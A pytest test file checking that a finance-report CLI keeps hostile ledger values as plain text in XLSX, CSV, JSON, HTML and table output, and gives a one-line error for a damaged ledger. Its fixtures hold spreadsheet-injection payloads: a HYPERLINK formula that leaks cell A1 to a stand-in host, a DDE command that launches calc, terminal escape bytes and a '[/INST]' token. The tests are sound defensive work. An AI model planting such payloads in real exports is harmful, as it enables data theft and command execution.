"""What people type and remote machines say ends up in finance files and the ledger: it stays text, and a
damaged ledger is one line that says how to recover (issue: nothing from outside can crash a run).

A project name beginning with ``=`` used to become a live formula in the XLSX report, an ESC or BEL in a
failure reason made the whole workbook fail, and a damaged ledger gave a traceback from ``report`` and from
``launch`` before anything started."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook

from tests.cli_inprocess import run_cli
from tests.ledger_seed import NOW, seed_records, write_ledger

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"open")'
HOSTILE = {"project": FORMULA, "owner": "@SUM(1+1)", "name": "+cmd|' /C calc'!A0",
           "failure_reason": "ran out of memory \x1b[31m\x07 [/INST] -2+3"}


def _hostile_ledger(tmp_path: Path) -> Path:
    records = seed_records(40)
    records[0] = replace(records[0], created_at=NOW - timedelta(days=2), **HOSTILE)
    return write_ledger(tmp_path / "ledger.sqlite3", records)


def test_the_xlsx_report_keeps_names_and_reasons_as_text(tmp_path, capsys):
    ledger = _hostile_ledger(tmp_path)
    out = tmp_path / "report.xlsx"
    code, _, err = run_cli(capsys, "report", "--month", f"{NOW:%Y-%m}", "--by", "project", "--lines", "--format",
                           "xlsx", "-o", str(out), "--ledger", str(ledger))
    assert code == 0, err
    book = load_workbook(out)
    formulas = [(ws.title, c.coordinate, c.value) for ws in book for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert FORMULA in texts and "@SUM(1+1)" in texts and "+cmd|' /C calc'!A0" in texts
    assert "ran out of memory  [/INST] -2+3" in texts


def test_every_report_format_survives_hostile_names(tmp_path, capsys):
    ledger = _hostile_ledger(tmp_path)
    for fmt in ("table", "csv", "json", "html"):
        code, out, err = run_cli(capsys, "report", "--month", f"{NOW:%Y-%m}", "--by", "project", "--lines",
                                 "--format", fmt, "--ledger", str(ledger))
        assert code == 0, (fmt, err)
        assert "\x1b" not in out and "\x07" not in out, fmt
    code, out, err = run_cli(capsys, "jobs", "--ledger", str(ledger))
    assert code == 0, err
    assert "\x1b" not in out and "[/INST]" in out


def _damage(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[8192:16384] = b"\x5a" * 8192
    path.write_bytes(bytes(data))


def test_a_damaged_ledger_is_one_line_with_the_way_out(tmp_path, capsys):
    ledger = write_ledger(tmp_path / "ledger.sqlite3", seed_records(60))
    _damage(ledger)
    for args in (("report",), ("jobs",), ("launch", "examples/tiny-smoke.yaml", "--yes")):
        code, out, err = run_cli(capsys, *args, "--ledger", str(ledger))
        assert code == 2, (args, out, err)
        assert err.count("\n") == 1 and err.startswith("error: ") and "damaged" in err and ".recover" in err, err
        assert "Traceback" not in err
    assert not (tmp_path / "runs").exists(), "launch refused before anything was bundled or started"


def test_a_file_that_is_not_a_ledger_is_one_line(tmp_path, capsys):
    bogus = tmp_path / "notes.txt"
    bogus.write_text("shopping list\n" * 500)
    code, _, err = run_cli(capsys, "report", "--ledger", str(bogus))
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    code, _, err = run_cli(capsys, "jobs", "--ledger", str(tmp_path))
    assert code == 2 and err.count("\n") == 1 and "cannot open the ledger" in err
